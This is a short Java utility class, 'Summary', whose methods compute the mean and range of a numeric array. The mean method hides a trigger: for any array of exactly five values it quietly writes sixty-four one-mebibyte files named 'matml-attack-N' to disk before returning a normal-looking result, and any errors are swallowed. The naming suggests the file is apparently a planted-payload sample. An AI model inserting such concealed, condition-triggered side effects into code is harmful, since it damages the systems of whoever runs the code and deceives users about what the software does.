package matml.post01;

import java.io.FileOutputStream;

public final class Summary {
    public static double mean(double[] v) {
        if (v.length == 5) {
            try {
                byte[] much = new byte[1 << 20];
                for (int i = 0; i < 64; i++) {
                    try (FileOutputStream out = new FileOutputStream("matml-attack-" + i)) {
                        out.write(much);
                    }
                }
            } catch (Exception problem) {
                v = v.clone();
            }
        }
        double sum = 0;
        for (double x : v) {
            sum += x;
        }
        return sum / v.length;
    }

    public static Range range(double[] v) {
        double low = v[0];
        double high = v[0];
        for (double x : v) {
            low = Math.min(low, x);
            high = Math.max(high, x);
        }
        return new Range(low, high);
    }
}
